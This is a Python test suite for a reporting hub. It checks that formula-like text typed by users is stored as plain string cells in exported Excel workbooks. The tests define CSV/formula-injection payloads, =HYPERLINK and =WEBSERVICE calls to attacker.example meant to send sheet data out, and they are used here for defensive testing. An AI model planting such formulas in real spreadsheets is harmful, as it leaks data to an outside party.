"""Text is text: whatever a user types, every workbook the hub writes holds it as a string cell,
never as a formula that Excel would evaluate on opening."""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

from litestar.testing import AsyncTestClient
from openpyxl import load_workbook

from hub.excel.layout import KPIS, TRIAL_BALANCE
from hub.services import Hub
from tests.api.graphql_client import data, gql
from tests.excel.workbooks import auth, download, edit, row_of, upload

# Evaluated on opening if it reached a cell as a formula: it would send the sheet's data away.
FORMULA = '=HYPERLINK("http://attacker.example/?"&B2,"Open the instructions")'

SAVE_KPIS = """
mutation($input: KpiReportInput!) { saveKpiValues(input: $input) {
  __typename ... on ReportSaved { submission { version } } } }
"""
SAVE_STATEMENTS = """
mutation($input: StatementsInput!) { saveStatements(input: $input) {
  __typename ... on ReportSaved { submission { version } }
  ... on ReportRejected { errors { field message } } } }
"""
NOTES = '{ kpiValues(entity: ["DE"], kpi: ["turnover"]) { note version } }'


def formulas_in(content: bytes) -> dict[str, list[str]]:
    """The cells holding a formula, per worksheet part of the xlsx archive."""
    found: dict[str, list[str]] = {}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = archive.read(name).decode()
                cells = re.findall(r'<c r="([A-Z]+\d+)"[^>]*>\s*<f[ >]', xml)
                if cells:
                    found[name] = cells
    return found


async def test_a_formula_typed_as_text_stays_text_in_the_template_and_back(
    client: AsyncTestClient[Any], tokens: dict[str, str], hub: Hub
) -> None:
    national = tokens["national-de"]
    saved = await gql(
        client,
        national,
        SAVE_KPIS,
        input={
            "entity": "DE",
            "period": "2024",
            "values": [
                {"kpi": "turnover", "amount": "5985000", "currency": "EUR", "note": FORMULA}
            ],
        },
    )
    assert data(saved)["saveKpiValues"]["__typename"] == "ReportSaved"
    chart = hub.countries["DE"].profile.chart_of_accounts
    bank = next(a.code for a in chart.accounts if chart.group_line(a.code) == "BS.A.CA.IX")
    capital = next(a.code for a in chart.accounts if chart.group_line(a.code) == "BS.L.EQ.I")
    statements = await gql(
        client,
        national,
        SAVE_STATEMENTS,
        input={
            "entity": "DE",
            "period": "2024",
            "trialBalance": [
                {"account": bank, "amount": "100", "currency": "EUR", "label": FORMULA},
                {"account": capital, "amount": "-100", "currency": "EUR", "label": "=1+1"},
            ],
        },
    )
    assert data(statements)["saveStatements"]["__typename"] == "ReportSaved", statements

    template = await download(client, national, "DE", "2024")
    assert formulas_in(template) == {}
    workbook = load_workbook(io.BytesIO(template))
    kpis = workbook[KPIS.title]
    note = kpis.cell(row=row_of(workbook, KPIS.title, "turnover"), column=KPIS.column("note"))
    assert (note.value, note.data_type) == (FORMULA, "s")
    trial_balance = workbook[TRIAL_BALANCE.title]
    label = trial_balance.cell(
        row=row_of(workbook, TRIAL_BALANCE.title, bank), column=TRIAL_BALANCE.column("label")
    )
    assert (label.value, label.data_type) == (FORMULA, "s")

    # Uploading one's own template with such text back is accepted, and changes nothing.
    back = await upload(client, national, "DE", "2024", template)
    assert back.status_code == 200, back.json()
    assert {d["outcome"] for d in back.json()["datasets"]} == {"unchanged"}
    stored = data(await gql(client, national, NOTES))["kpiValues"]
    assert stored == [{"note": FORMULA, "version": 1}]


async def test_the_checked_workbook_keeps_text_as_text(
    client: AsyncTestClient[Any], tokens: dict[str, str]
) -> None:
    national = tokens["national-de"]
    template = await download(client, national, "DE", "2024")

    def fill(workbook: Any) -> None:
        sheet = workbook[KPIS.title]
        row = row_of(workbook, KPIS.title, "turnover")
        amount = sheet.cell(row=row, column=KPIS.column("amount"))
        amount.value = "=1+2 (typed as text)"
        amount.data_type = "s"
        note = sheet.cell(row=row, column=KPIS.column("note"))
        note.value = FORMULA
        note.data_type = "s"

    checked = await upload(client, national, "DE", "2024", edit(template, fill), annotated=True)
    assert checked.status_code == 422
    assert formulas_in(checked.content) == {}
    workbook = load_workbook(io.BytesIO(checked.content))
    report = workbook["Upload report"]
    messages = [row[4] for row in report.iter_rows(min_row=1, values_only=True) if row[4]]
    assert "text '=1+2 (typed as text)' where a number is expected" in messages
    row = row_of(workbook, KPIS.title, "turnover")
    assert workbook[KPIS.title].cell(row=row, column=KPIS.column("note")).value == FORMULA


async def test_a_programme_name_stays_text_in_the_monitoring_workbook(
    client: AsyncTestClient[Any], tokens: dict[str, str]
) -> None:
    create = """
    mutation($input: InvestmentProgrammeInput!) { createProgramme(input: $input) { name } }
    """
    programme = {
        "name": FORMULA,
        "fundingEntity": "BE",
        "budget": "300000",
        "currency": "EUR",
        "startsOn": "2024-01-01",
        "endsOn": "2024-12-31",
        "purpose": '=WEBSERVICE("http://attacker.example")',
    }
    created = data(await gql(client, tokens["finance"], create, input=programme))
    assert created["createProgramme"]["name"] == FORMULA
    response = await client.get("/api/monitoring/2024/report.xlsx", headers=auth(tokens["board"]))
    assert response.status_code == 200
    assert formulas_in(response.content) == {}
    workbook = load_workbook(io.BytesIO(response.content))
    texts = [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.data_type == "s"
    ]
    assert FORMULA in texts
